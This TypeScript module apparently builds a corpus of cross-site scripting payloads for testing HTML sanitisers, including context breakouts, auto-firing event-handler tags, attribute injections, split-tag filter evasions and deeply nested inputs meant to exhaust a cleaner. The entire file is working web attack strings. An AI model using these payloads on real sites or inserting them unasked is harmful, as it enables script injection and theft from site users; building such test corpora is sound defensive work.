import { cross } from './cross.ts';

/** Out of where the text may stand, then a script. */
const breakouts = cross(
  ['§', '">§', "'>§", '</title>§', '</textarea>§', '</style>§', '</script>§', '-->§', ']]>§', '</noscript>§'],
  ['<script>{js}</script>', '<img src=x onerror={js}>', '<svg onload={js}>'],
);

/** Elements that run a script by themselves, with all that may stand between name and attribute. */
const handlers = [
  'img src=x onerror={js}',
  'body onload={js}',
  'video src=x onerror={js}',
  'audio src=x onerror={js}',
  'details open ontoggle={js}',
  'input autofocus onfocus={js}',
  'textarea autofocus onfocus={js}',
  'marquee onstart={js}',
  'iframe onload={js}',
  'object data=x onerror={js}',
  'div contenteditable autofocus tabindex=0 onfocus={js}',
  'style onload={js}',
  'div style=animation:spin-around;animation-duration:1ms onanimationend={js}',
].flatMap((text) => [`<${text}>`, `<${text.replace(' ', '/')}>`, `<${text.replaceAll(' ', '\n')}>`]);

const attributes = cross(
  [`"§`, `'§`, '`§', '&quot;§'],
  [
    ' onmouseover={js} x=',
    ' autofocus onfocus={js} x=',
    ' style=animation-name:x onanimationstart={js} ',
    '><img src=x onerror={js}>',
  ],
);

const scripts = [
  '<SCRIPT>{js}</SCRIPT>',
  '<script src={url}.js></script>',
  '<script type=module>{js}</script>',
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<script\t>{js}</script\n>',
  '<script>{js}',
  '<<script>{js}//<</script>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
  '<template><script>{js}</script></template>',
  '<img src=x onerror=alert({js})>',
  '<script>confirm(prompt({js}))</script>',
];

/** So deep or so long that what cleans it may give up. */
const nested = [
  '<div>'.repeat(2_000) + '<img src=x onerror={js}>',
  '<b>'.repeat(500) + '<script>{js}</script>' + '</b>'.repeat(500),
  '<table>'.repeat(300) + '<img src=x onerror={js}>',
  '<svg>'.repeat(300) + '<foreignObject><img src=x onerror={js}>',
  '['.repeat(300) + '"<img src=x onerror={js}>"' + ']'.repeat(300),
  '{"a":'.repeat(300) + '"<svg onload={js}>"' + '}'.repeat(300),
  `<img ${'a=b '.repeat(2_000)}src=x onerror={js}>`,
  `${'A'.repeat(20_000)}<img src=x onerror={js}>`,
];

export const markupPayloads = { breakouts, handlers, attributes, scripts, nested };
